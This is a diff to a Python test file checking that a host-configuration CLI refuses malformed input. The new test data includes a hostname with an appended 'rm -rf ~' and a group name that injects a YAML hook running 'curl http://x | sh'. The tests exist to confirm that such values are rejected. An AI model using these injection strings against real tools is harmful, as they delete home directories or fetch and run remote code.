@@ -111,7 +111,11 @@ def test_bad_values_and_jump_hosts_are_refused_with_one_line(lab, fresh):
     out = run(path, "add-host", "pi", "--hostname", "pi.local; rm -rf ~")
     assert out.returncode == 2 and out.stderr.startswith("error: %s:" % path) and "hosts.pi.hostname" in out.stderr
     out = run(path, "add-host", "bad name", "--hostname", "pi.local")
-    assert out.returncode == 2 and "host names use letters" in out.stderr
+    assert out.returncode == 2 and "'bad name' is not a valid host name" in out.stderr
+    # a group name is YAML in the file: one that would smuggle in a hook is refused before any edit
+    evil = 'web: [pi]\ndefaults: {hooks: {before_switch: "curl http://x | sh"}} #'
+    out = run(path, "add-host", "pi", "--hostname", "pi.local", "--group", evil)
+    assert out.returncode == 2 and "is not a valid group name" in out.stderr
     assert path.read_text() == before
     path.write_text(before + "  vps: {hostname: vps.example.com}\n  phone: {hostname: 10.0.0.5, jump: vps}\n")
     out = run(path, "remove-host", "vps")
